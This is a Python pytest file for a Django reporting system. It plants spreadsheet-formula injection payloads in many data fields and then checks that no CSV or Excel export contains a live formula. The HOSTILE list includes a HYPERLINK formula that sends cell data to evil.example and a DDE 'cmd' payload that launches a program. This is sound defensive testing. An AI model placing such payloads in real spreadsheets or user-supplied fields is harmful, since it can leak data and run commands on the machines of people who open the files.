"""Issue 11.3: no export of the system carries a live formula; numbers stay numbers.

Hostile text is planted in every free-text field that reaches a spreadsheet (names, addresses, notes,
county reasons), then EVERY export the system offers is downloaded through its URL and every cell scanned.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from evaluations.models import Evaluation, Period, Stage, State
from ledgers.exports import LEDGER_EXPORTERS
from ledgers.imports import SPECS
from ledgers.models import Complaint, Employer, ServiceRecord, Vacancy, Visit
from reports.cells import FORMULA_TRIGGERS, csv_value, safe_text, unescape_text, xlsx_value
from reports.exporters import EXPORTERS
from tests.ledgers import factories as f
from tests.reports.conftest import score_sheet

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def test_the_rule():
    for text in HOSTILE:
        assert safe_text(text) == "'" + text and unescape_text(safe_text(text)) == text
    assert safe_text("张三") == "张三" and safe_text("-3") == "-3" and safe_text("+86") == "+86"
    assert xlsx_value(Decimal("2.5")) == 2.5 and xlsx_value(7) == 7 and xlsx_value(None) is None
    assert csv_value(Decimal("-2.5")) == "-2.5" and csv_value(-4) == -4


@pytest.fixture
def hostile_city(cast, standard_version):
    period = Period.objects.create(year=2025, name="2025年度", standard=standard_version, star_bands=[],
                                   created_by=cast.city_admin)
    evaluation = score_sheet(
        Evaluation.objects.create(period=period, community=cast.community), cast.city_reviewer,
        {Stage.COUNTY: {"1.3": (Decimal("0.5"), HOSTILE[0])}, Stage.CITY: {"1.3": (Decimal("0.5"), HOSTILE[3])}},
        state=State.PUBLISHED,
    )
    hh = f.household(cast.community, code="H-001", address=HOSTILE[1])
    person = f.person(cast.community, hh=hh, name=HOSTILE[0], address=HOSTILE[1])
    f.unemployed(person, date(2025, 3, 1)).__class__.objects.filter(person=person).update(note=HOSTILE[2])
    f.hardship(person, date(2025, 3, 1)).__class__.objects.filter(person=person).update(note=HOSTILE[3])
    f.employed(person, date(2025, 5, 1)).__class__.objects.filter(person=person).update(employer_name=HOSTILE[4])
    ServiceRecord.objects.create(person=person, kind="policy", served_on=date(2025, 4, 1), staff=HOSTILE[5],
                                 note=HOSTILE[2])
    Visit.objects.create(household=hh, visited_on=date(2025, 4, 2), visitor=HOSTILE[3], way="home", record=HOSTILE[0])
    employer = Employer.objects.create(community=cast.community, name=HOSTILE[0], contact=HOSTILE[2],
                                       address=HOSTILE[1])
    Vacancy.objects.create(employer=employer, title=HOSTILE[3], headcount=3, salary=HOSTILE[2],
                           published_on=date(2025, 6, 1))
    Complaint.objects.create(community=cast.community, kind="complaint", received_on=date(2025, 7, 1),
                             summary=HOSTILE[0], handling=HOSTILE[1])
    return evaluation


def every_export(client, evaluation) -> list[tuple[str, str, bytes]]:
    out = []

    def get(url, fmt, **params):
        response = client.get(url, params)
        assert response.status_code == 200, url
        out.append((f"{url}?{params}", fmt, response.content))

    for identifier, cls in EXPORTERS.items():
        for fmt in cls.formats:
            if fmt in ("xlsx", "csv"):
                get(reverse("reports:export", args=[identifier, fmt]), fmt, period=evaluation.period.year)
    get(reverse("reports:form_download", args=[evaluation.pk, "xlsx"]), "xlsx")
    for kind, cls in LEDGER_EXPORTERS.items():
        for fmt in cls.formats:
            get(reverse("ledgers:export", args=[kind]), fmt, format=fmt)
            get(reverse("ledgers:export", args=[kind]), fmt, format=fmt, full="1")
    for kind in SPECS:
        get(reverse("ledgers:import_template", args=[kind]), "xlsx")
    return out


def cells(fmt: str, content: bytes):
    if fmt == "csv":
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            yield from (("s", value) for value in row)
        return
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield cell.data_type, cell.value


def test_no_export_carries_a_formula(cast, hostile_city):
    client = Client()
    client.force_login(cast.city_admin)
    exports = every_export(client, hostile_city)
    for role_user in (cast.county_reviewer, cast.operator):
        other = Client()
        other.force_login(role_user)
        exports += [(u, fmt, c) for u, fmt, c in every_export(other, hostile_city) if "ledgers" in u]
    planted = 0
    numbers = 0
    for url, fmt, content in exports:
        for data_type, value in cells(fmt, content):
            assert data_type != "f", f"formula in {url}: {value!r}"
            if isinstance(value, int | float) and not isinstance(value, bool):
                numbers += 1
            if isinstance(value, str) and value:
                assert value[0] not in FORMULA_TRIGGERS or value.lstrip("+-").replace(".", "").isdigit(), (
                    f"unneutralised cell in {url}: {value!r}"
                )
                if value.startswith("'") and unescape_text(value) in HOSTILE:
                    planted += 1
    assert planted >= 20  # the hostile values really went through the exports
    assert numbers > 50  # scores, totals and counts are still numbers in the xlsx files


def test_orgs_import_template_is_written_by_the_cell_writer(cast):
    client = Client()
    client.force_login(cast.city_admin)
    content = client.get(reverse("orgs:import_template")).content
    assert all(t != "f" for t, _ in cells("xlsx", content))
